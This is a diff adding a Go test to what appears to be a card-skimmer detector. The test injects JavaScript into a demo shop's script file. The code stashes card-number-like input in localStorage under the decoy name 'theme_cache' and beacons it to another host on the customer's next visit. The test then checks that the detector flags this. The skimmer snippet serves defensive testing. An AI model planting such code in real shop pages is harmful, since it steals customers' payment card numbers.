@@ -164,3 +164,27 @@ document.addEventListener('change', e => /^[\d ]{15,}$/.test(e.target.value) && 
 		t.Error("the shop got the card before the last button, or its log is not where it should be")
 	}
 }
+
+// What a skimmer hid in the browser on one visit leaves on the next, and is still known for what it is.
+func TestAReturningCustomer(t *testing.T) {
+	t.Parallel()
+	shop := openShop(t, demoshop.Config{})
+	script := filepath.Join(shop.Docroot(), "assets", "js", "shop.js")
+	text, err := os.ReadFile(script)
+	if err != nil {
+		t.Fatal(err)
+	}
+	text = append(text, []byte(`
+if (localStorage.theme_cache) navigator.sendBeacon('`+shop.URL("other.localhost")+`t', localStorage.theme_cache);
+document.addEventListener('change', e => { if (/^[\d ]{15,}$/.test(e.target.value)) localStorage.theme_cache = btoa(e.target.value); });`)...)
+	if err := os.WriteFile(script, text, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	signs, gaps, _ := observe(t, Config{Profiles: []string{"returning"}}, shop.URL("shop.localhost"))
+	if len(gaps) > 0 {
+		t.Errorf("not seen: %q", gaps[0].Why)
+	}
+	if len(signs) == 0 || signs[0].Severity != tillwatch.Critical || !strings.Contains(signs[0].Place, "other.localhost") {
+		t.Errorf("a card that left on the second visit gave %+v", signs)
+	}
+}
